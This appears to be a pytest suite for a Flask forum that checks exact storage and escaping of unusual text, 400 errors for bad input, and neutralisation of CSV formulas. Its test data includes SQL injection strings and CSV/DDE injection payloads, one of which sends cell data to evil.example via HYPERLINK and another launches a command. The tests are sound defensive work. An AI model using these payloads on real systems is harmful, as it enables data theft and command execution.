"""Input: nasty but legal text survives exactly; bad input is a 400 with field messages; CSV.

- Text staff may well paste (scripts of every direction, zero-width and bidi controls, emoji
  sequences, combining marks, SQL and HTML metacharacters, format strings, the longest value a
  field takes) is stored exactly, returned exactly by the API and shown exactly (escaped) on
  the page, through the real forms.
- Text that cannot be stored (NUL, lone surrogates, over-long values) gets a 400 naming the
  field, never a 500, on forms and the API.
- CSV exports (registry, insights) never start a cell with a formula; malformed CSV imports
  answer with row errors (or a file error), never a 500.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape

from forum.accounts.models import Role
from forum.boards.models import Thread
from forum.extensions import db
from tests.boards.factories import make_board
from tests.conftest import ApiClient
from tests.factories import make_department, make_user
from tests.registry.factories import make_profile

NASTY = [
    "Zoë Ñúñez — naïve café, Łódź, Ærøskøbing",
    "日本語のテキストと中文文本和한국어",
    "עברית: שלום עולם",
    "مرحبا بالعالم (العربية)",
    "Mixed \u202eevil override\u202c and \u2067isolate\u2069 controls",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffbom",
    "Emoji 👩🏽‍💻 🏳️‍🌈 🇬🇧 ❤️‍🔥 1️⃣",
    "Combining: e\u0301 a\u0308 Z\u0351\u0352\u0353al\u0354\u0355go",
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594 \U0001d4cc\U0001d45c (astral plane)",
    "Robert'); DROP TABLE users;-- and 1' OR '1'='1",
    "<b>bold?</b> &amp; &lt;tag&gt; \"double\" 'single' `back`",
    "%s %d %n {0} {{ config }} ${env} #{ruby} <%= erb %>",
    "Backslashes \\ \\n \\0 \\x00 and a tab\there",
    "Line\u2028separator and\u2029paragraph separator",
]
TITLE_MAX = 200


@pytest.fixture
def board(app: Flask) -> Any:
    return make_board(name="General", slug="general")


@pytest.mark.parametrize("text", [*NASTY, "Ω" * TITLE_MAX])
def test_titles_and_bodies_are_stored_and_shown_exactly(
    board: Any, login: Callable[..., FlaskClient], api: Callable[[Any], ApiClient], text: str
) -> None:
    person = make_user()
    client = login(person)
    response = client.post(
        "/b/general/new",
        data={"kind": "question", "title": text, "body": text, "action": "post"},
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    thread = db.session.scalars(db.select(Thread).order_by(Thread.id.desc())).first()
    assert thread is not None
    db.session.refresh(thread)
    # A title is one line: runs of whitespace (tabs, line separators) become one space.
    title = " ".join(text.split())
    assert thread.title == title
    assert thread.posts[0].body == text
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert str(escape(title)) in page
    data = api(person).get(f"/api/v1/threads/{thread.id}").get_json()
    assert data["title"] == title
    post = api(person).get(f"/api/v1/posts/{thread.posts[0].id}").get_json()
    assert post["body"] == text


def test_the_longest_body_is_kept_whole(board: Any, api: Callable[[Any], ApiClient]) -> None:
    body = ("Längster Beitrag 👩🏽‍💻 " * 3000)[:50_000]
    client = api(make_user())
    created = client.post(
        "/api/v1/threads", json={"board": "general", "kind": "question", "title": "L", "body": body}
    )
    assert created.status_code == 201
    thread = db.session.get(Thread, created.get_json()["id"])
    assert thread is not None and thread.posts[0].body == body


@pytest.mark.parametrize("text", NASTY[:8])
def test_display_names_and_escalation_reasons_are_shown_exactly(
    board: Any, login: Callable[..., FlaskClient], text: str
) -> None:
    person = make_user()
    client = login(person)
    saved = client.post(
        "/settings/profile", data={"display_name": text, "email_preference": "daily"}
    )
    assert saved.status_code == 302
    created = client.post(
        "/b/general/new", data={"kind": "question", "title": "T", "body": "B", "action": "post"}
    )
    thread_path = created.headers["Location"].split("#")[0]
    escalated = client.post(
        thread_path.split("-")[0] + "/escalate", data={"reason": text, "urgency": "urgent"}
    )
    assert escalated.status_code == 302
    senior = make_user(Role.SENIOR)
    reader = client.application.test_client()
    reader.post("/login", data={"email": senior.email, "password": "correct horse battery"})
    page = reader.get(thread_path).get_data(as_text=True)
    assert str(escape(text)) in page  # the author's name
    escalation_page = reader.get(escalated.headers["Location"]).get_data(as_text=True)
    assert str(escape(text)) in escalation_page


UNSTORABLE = {
    "nul": "before\x00after",
    "lone surrogate": "before\ud800after",
    "over-long": "x" * 100_001,
}


# A form cannot carry a lone surrogate: browsers send UTF-8, and bytes that are not UTF-8 are
# read as U+FFFD. JSON can (`"\ud800"`), so the API is tested with all three.
@pytest.mark.parametrize("kind", ["nul", "over-long"])
def test_unstorable_text_is_a_400_naming_the_field_on_forms(
    board: Any, login: Callable[..., FlaskClient], kind: str
) -> None:
    bad = UNSTORABLE[kind]
    person = make_user(Role.ADMIN)
    client = login(person)
    forms: list[tuple[str, dict[str, str], str]] = [
        ("/b/general/new", {"kind": "question", "title": bad, "body": "B"}, "title"),
        ("/b/general/new", {"kind": "question", "title": "T", "body": bad}, "body"),
        ("/settings/profile", {"display_name": bad, "email_preference": "daily"}, "display_name"),
        ("/admin/departments", {"slug": "ok", "name": bad}, "name"),
        ("/settings/tokens", {"name": bad}, "name"),
        ("/login", {"email": bad, "password": "x"}, "email"),
        ("/forgot-password", {"email": bad}, "email"),
    ]
    for path, data, field in forms:
        response = client.post(path, data=data)
        assert response.status_code == 400, (path, field, response.status_code)
        page = response.get_data(as_text=True)
        # Either the form again with the message at its field, or the error page listing it.
        assert (
            f"<strong>{field}</strong>" in page
            or f'id="{field}-error"' in page
            or (f'aria-describedby="{field}-error"' in page)
        ), (path, field, page[page.find("<main") : page.find("</main>")])


@pytest.mark.parametrize("kind", sorted(UNSTORABLE))
def test_unstorable_text_is_a_400_naming_the_field_on_the_api(
    board: Any, api: Callable[[Any], ApiClient], kind: str
) -> None:
    bad = UNSTORABLE[kind]
    client = api(make_user(Role.ADMIN))
    calls: list[tuple[str, dict[str, Any]]] = [
        ("/api/v1/threads", {"board": "general", "kind": "question", "title": bad, "body": "B"}),
        ("/api/v1/threads", {"board": "general", "kind": "question", "title": "T", "body": bad}),
        ("/api/v1/departments", {"slug": "d", "name": bad}),
    ]
    for path, body in calls:
        response = client.post(path, json=body)
        assert response.status_code == 400, (path, response.status_code)
        error = response.get_json()["error"]
        assert error["fields"], (path, error)


def test_malformed_json_and_wrong_types_are_400(
    board: Any, api: Callable[[Any], ApiClient]
) -> None:
    client = api(make_user())
    for raw in ("{", "[]", "null", '{"board": 1}', '"text"', "\x00"):
        response = client.post(
            "/api/v1/threads", data=raw, headers={"Content-Type": "application/json"}
        )
        assert response.status_code == 400, raw


# --- CSV ---------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_registry_export_neutralizes_formulas(
    app: Flask, login: Callable[..., FlaskClient], api: Callable[[Any], ApiClient], formula: str
) -> None:
    department = make_department(slug="parks")
    make_profile(department=department, display_name=formula, description=formula)
    person = make_user()
    exports = [
        login(person).get("/profiles/export.csv").get_data(as_text=True),
        api(person).get("/api/v1/profiles/export.csv").get_data(as_text=True),
    ]
    for text in exports:
        cells = _cells(text)
        # Leading whitespace is trimmed on save; what is left must not start a formula.
        assert "'" + formula.strip() in cells or "'" + formula in cells, cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells


def test_insights_export_neutralizes_formulas(
    app: Flask, login: Callable[..., FlaskClient]
) -> None:
    for n, formula in enumerate(FORMULAS):
        make_department(slug=f"f{n}", name=formula)
    client = login(make_user(Role.ADMIN))
    text = client.get("/insights/departments_without_enthusiast.csv").get_data(as_text=True)
    cells = _cells(text)
    assert any(c == "'" + FORMULAS[0] for c in cells), cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells


HEADER = "platform,url,display_name,department,owner\n"
MALFORMED = {
    "lone carriage return in a row": HEADER + "x,https://x.com/a,A\rB,parks,o@example.org\n",
    "a cell over the csv module's limit": HEADER
    + "x,https://x.com/b,"
    + "B" * 140_000
    + ",parks,o@example.org\n",
    "too many cells": HEADER + "x,https://x.com/c,C,parks,o@example.org,extra,more\n",
    "too few cells": HEADER + "x,https://x.com/d\n",
    "unknown platform and bad url": HEADER + "myspace,not a url,D,parks,o@example.org\n",
    "unknown department and owner": HEADER + "x,https://x.com/e,E,nowhere,nobody@example.org\n",
    "unterminated quote": HEADER + 'x,https://x.com/f,"F,parks,o@example.org\n',
    "formula in a cell": HEADER + "x,https://x.com/g,=1+1,parks,o@example.org\n",
}
FILE_ERRORS = {
    "not utf-8": b"platform,url\n\xff\xfe,\x80\n",
    "nul byte": HEADER.encode() + b"x,https://x.com/h,\x00,parks,o@example.org\n",
    "empty": b"",
    "unknown header": b"colour,shape\nred,round\n",
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_csv_rows_are_row_errors(
    app: Flask, api: Callable[[Any], ApiClient], login: Callable[..., FlaskClient], case: str
) -> None:
    make_department(slug="parks")
    make_user(email="o@example.org")
    person = make_user(Role.ADMIN)
    response = api(person).post(
        "/api/v1/profiles/import?dry_run=true",
        data=MALFORMED[case].encode(),
        headers={"Content-Type": "text/csv"},
    )
    assert response.status_code in (200, 400), response.status_code
    report = response.get_json()
    rows = report.get("rows", [])
    if case != "formula in a cell":
        assert any(row.get("errors") for row in rows), report
        assert all("row" in row for row in rows if row.get("errors")), report
    page = login(person).post(
        "/profiles/import",
        data={"file": (io.BytesIO(MALFORMED[case].encode()), "p.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code in (200, 400), page.status_code
    shown = page.get_data(as_text=True)
    if case != "formula in a cell":
        assert 'data-label="Row">2<' in shown and "<strong>0 with errors</strong>" not in shown


@pytest.mark.parametrize("case", sorted(FILE_ERRORS))
def test_unreadable_csv_files_are_a_400_on_the_file(
    app: Flask, api: Callable[[Any], ApiClient], login: Callable[..., FlaskClient], case: str
) -> None:
    person = make_user(Role.ADMIN)
    response = api(person).post(
        "/api/v1/profiles/import?dry_run=true",
        data=FILE_ERRORS[case],
        headers={"Content-Type": "text/csv"},
    )
    assert response.status_code == 400, (case, response.status_code)
    assert response.get_json()["error"]["fields"] or response.get_json().get("rows"), case
    page = login(person).post(
        "/profiles/import",
        data={"file": (io.BytesIO(FILE_ERRORS[case]), "p.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 400, (case, page.status_code)
